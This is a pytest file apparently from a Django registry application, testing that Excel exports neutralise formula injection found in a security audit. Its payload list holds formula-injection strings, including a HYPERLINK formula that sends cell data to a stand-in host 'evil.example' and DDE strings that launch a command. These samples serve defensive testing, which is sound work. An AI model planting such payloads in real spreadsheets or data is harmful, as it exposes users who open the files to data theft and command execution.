"""Finding 6 (issue 12): Excel formula injection. A person named =HYPERLINK(…) was exported as a live
formula. Every export (registry lists, import templates, report tables) writes texts that start with
= + - @, tab or CR as plain text cells, with the value itself unchanged."""

import io
import zipfile

import openpyxl
import pytest

from anlan.core import excel
from anlan.core.services import object_create
from anlan.core.testing.personas import persona
from anlan.registry.models import Person

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(content: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the file itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


def _cells(content: bytes, text: str):
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def test_finding06_registry_export_writes_formula_like_names_as_text(client, tree):
    admin = persona("county_admin")
    for i, name in enumerate(PAYLOADS):
        object_create(actor=admin, instance=Person(name=name, region=tree.village, phone=f"1990000{i:04d}"))
    client.force_login(admin)
    response = client.get("/registry/person/", {"export": "xlsx"})
    assert response.status_code == 200
    content = response.content
    assert _formulas(content) == []
    for name in PAYLOADS:
        (cell,) = _cells(content, name)  # the value is kept exactly: an export imports back unchanged
        assert cell.data_type == "s" and cell.quotePrefix


def test_finding06_report_tables_and_templates_are_neutralised_too():
    content = excel.tables_workbook([("统计", ["名称", "数量"], [[p, 1] for p in PAYLOADS])])
    assert _formulas(content) == []
    assert all(c.quotePrefix for p in PAYLOADS for c in _cells(content, p))
    ordinary = excel.table_workbook("统计", ["名称"], [["巫山县"], [-5]])
    wb = openpyxl.load_workbook(io.BytesIO(ordinary))
    assert wb.active["A3"].value == -5 and wb.active["A3"].data_type == "n"  # numbers stay numbers
